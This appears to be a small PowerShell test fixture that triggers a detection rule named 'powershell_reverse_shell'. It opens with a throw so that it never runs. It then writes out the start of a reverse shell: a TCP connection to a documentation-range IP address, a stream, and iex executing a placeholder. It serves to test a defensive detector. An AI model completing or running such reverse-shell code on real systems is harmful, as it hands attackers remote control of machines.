# Trips powershell_reverse_shell.
throw "a fixture: never run"
$client = New-Object System.Net.Sockets.TCPClient('192.0.2.1', 9)
$stream = $client.GetStream()
iex $placeholder
